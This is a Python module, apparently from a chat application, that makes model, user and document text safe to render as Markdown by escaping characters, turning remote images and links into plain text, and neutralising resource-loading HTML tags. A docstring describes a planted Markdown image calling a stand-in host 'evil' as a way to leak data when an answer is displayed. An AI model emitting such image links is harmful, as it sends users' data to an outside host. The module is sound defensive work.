"""Text made safe to show in the page's Markdown: a document's words as themselves, a model's or a user's with
nothing that loads from another host or becomes a link, a passage with its supporting sentences marked, a
name as a code span. Pure functions; the chat (``render``), the tabs and the traces use them."""

from __future__ import annotations

import html
import re

_MARKDOWN_CHARS = re.compile(r"[\\`*_\[\]#|~]")
_MD_IMAGE = re.compile(r"!\[([^\]\n]{0,500})\]\(([^)\s]{0,2000})[^)\n]{0,500}\)")
_MD_LINK = re.compile(r"(?<!!)\[([^\]\n]{0,500})\]\(((?:https?:)?//[^)\s]{0,2000})[^)\n]{0,500}\)", re.IGNORECASE)
_LOADING_TAG = re.compile(
    r"<(?=/?\s*(img|image|iframe|frame|video|audio|source|picture|object|embed|link|svg|style|script|meta|base)\b)",
    re.IGNORECASE,
)


# The chat's Markdown turns bare addresses into links (GFM autolinks). Their slashes (and the dot after "www")
# shown as character references still read as the address but match no autolink, so nothing becomes clickable.
# The app's own links are relative ("/gradio_api/file=..."), so every absolute address is another host's.
_SCHEME = re.compile(r"\b(https?|ftps?)://", re.IGNORECASE)
_WWW = re.compile(r"\b(www)\.(?=[\w-])", re.IGNORECASE)


def unlinked(text: str) -> str:
    """``text`` (already escaped or Markdown) with no address in it that the renderer would make a link."""
    return _WWW.sub(r"\1&#46;", _SCHEME.sub(r"\1:&#47;&#47;", text))


def no_remote_content(text: str) -> str:
    """Model or user text with nothing in it that would load from another host when shown: Markdown images
    become their alt text and address, links to other hosts plain text, and tags that load resources
    (img, iframe, video, svg, style...) are shown as text. A document planted with ``![](https://evil/?q=...)``
    would otherwise have the browser send the request the moment the answer appears."""
    text = _MD_IMAGE.sub(lambda m: f"🖼 {m.group(1) or 'image'} ({escape_text(m.group(2))})", text)
    text = _MD_LINK.sub(lambda m: f"{m.group(1)} ({escape_text(m.group(2))})", text)
    return unlinked(_LOADING_TAG.sub("&lt;", text))


def plain_markdown(text: str) -> str:
    """Model text shown in a step or note: HTML escaped, Markdown kept, nothing that loads from another host."""
    return no_remote_content(html.escape(text, quote=False))


def escape_text(text: str) -> str:
    """Document text shown as itself: HTML escaped, and the Markdown characters that would format it."""
    return unlinked(html.escape(_MARKDOWN_CHARS.sub(r"\\\g<0>", text), quote=False))


def highlighted(text: str, sentences: tuple[str, ...]) -> str:
    """``text`` escaped, each of ``sentences`` found in it wrapped in ``<mark>``."""
    spans = sorted({(i, i + len(s)) for s in sentences if s and (i := text.find(s)) >= 0})
    out, at = [], 0
    for start, end in spans:
        if start < at:  # overlaps the one before: already highlighted
            continue
        out += [escape_text(text[at:start]), f"<mark>{escape_text(text[start:end])}</mark>"]
        at = end
    return "".join(out) + escape_text(text[at:])


def code_span(text: str) -> str:
    """``text`` as a Markdown code span, whatever backticks it holds (the fence is longer than any run in it)."""
    text = " ".join(text.split())  # a code span is one line
    fence = "`" * (max((len(run) for run in re.findall(r"`+", text)), default=0) + 1)
    pad = " " if text.startswith("`") or text.endswith("`") else ""
    return f"{fence}{pad}{text}{pad}{fence}"
